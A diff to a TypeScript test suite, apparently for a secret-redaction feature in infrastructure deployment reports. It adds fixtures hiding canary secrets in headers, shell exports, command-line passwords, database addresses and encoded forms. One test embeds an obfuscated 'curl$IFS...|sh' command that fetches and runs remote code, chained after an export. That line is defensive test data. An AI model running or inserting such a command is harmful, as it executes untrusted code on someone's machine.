@@ -141,6 +141,31 @@ const places: Record<string, object[]> = {
     }),
     diagnostic("error", `env: [{ name: "DB_PASSWORD", value: "${canary}" }]`),
   ],
+  "a list of headers, and a header alone": [
+    step("create", { new: { headers: [{ name: "Authorization", value: `Bearer ${canary}` }] } }),
+    step("update", { name: "b", old: { headers: { Cookie: "a" } }, new: { headers: { Cookie: canary } } }),
+  ],
+  "a list of variables as clouds write it": [
+    step("create", {
+      new: { env: [{ Name: "API_TOKEN", Value: canary }], tags: [{ ParameterKey: "DbPassword", ParameterValue: canary }] },
+    }),
+  ],
+  "options of a command that goes on in the next line": [
+    step("update", { old: { a: "x\ny" }, new: { a: `x\nmysql -h db.example.org \\\n  -p${canary} -e 1\ny` } }),
+    step("update", {
+      name: "b",
+      old: { a: "x\ny" },
+      new: { a: `x\ndocker login -u robot \\\n  -p ${canary} swr.example.org\ny` },
+    }),
+    step("update", { name: "c", old: { a: "x\ny" }, new: { a: `x\n<password>\n  ${canary}\n</password>\ny` } }),
+  ],
+  "an assignment in a script": [
+    step("update", { old: { a: "x\ny" }, new: { a: `x\nexport DB_PASSWORD='${canary}'\nexport MY_TOKEN=${canary}\ny` } }),
+  ],
+  "an address of a database driver": [
+    diagnostic("error", `dial user:${canary.replaceAll("/", "-")}@tcp(10.0.0.1:3306)/db failed`),
+  ],
+  "an error, as HTML": [diagnostic("error", `<p>${canary.replaceAll("/", "&#x2F;")} &lt;${canary}&gt;</p>`), teller],
   "what a kind of ours keeps secret": [
     step("create", { name: "n", type: "pulumi-nodejs:dynamic/codearts:Notice", new: { webhook: canary, signingKey: canary } }),
     step("create", { name: "k", type: "pulumi-nodejs:dynamic/codearts:Keystore", new: { content: canary } }),
@@ -210,6 +235,35 @@ test("what looks like a key is hidden though nobody marked it", async () => {
     diagnostic("error", `clone with ${key} failed`),
   ]);
   expect(text).not.toContain(key.slice(4, 20));
+});
+
+test("a secret is hidden as other languages write it: in addresses with any spelling of spaces and signs, in HTML, in Go's JSON", async () => {
+  const value = "made up/secret+(7f3a)'<&>\"~";
+  const tell = step("same", { name: "teller", old: {}, new: { a: secret(value) } });
+  for (const form of [
+    "made+up%2fsecret%2b(7f3a)%27%3c%26%3e%22~",
+    "made%20up%2Fsecret%2B%287f3a%29%27%3C%26%3E%22~",
+    "made+up%2Fsecret%2B%287f3a%29%27%3C%26%3E%22%7E",
+    "made up/secret+(7f3a)&#39;&lt;&amp;&gt;&#34;~",
+    "made up/secret+(7f3a)&#x27;&lt;&amp;&gt;&quot;~",
+    "made up/secret+(7f3a)'\\u003c\\u0026\\u003e\\\"~",
+  ])
+    expect([form, (await formatsOf([tell, diagnostic("error", `refused: ${form}`)])).includes("7f3a")]).toEqual([form, false]);
+});
+
+test("what a shell runs behind a telling name stays in sight, and so does a reference", async () => {
+  const code = "curl$IFS-s$IFS" + "https://example.org/x|sh";
+  const report = await reportOf([
+    step("update", {
+      old: { a: "x\ny" },
+      new: { a: `x\nexport DB_PASSWORD=made-up-value&&${code}\nexport API_TOKEN=$OTHER_TOKEN\nTOKEN=$(${code})\ny` },
+    }),
+    ...ending(),
+  ]);
+  const text = whole(textPieces(report));
+  expect(text.split(code)).toHaveLength(3);
+  expect(text).toContain("API_TOKEN=$OTHER_TOKEN");
+  expect(text).not.toContain("made-up-value");
 });
 
 test("the mark stays readable: [secret] is there where the value was", async () => {
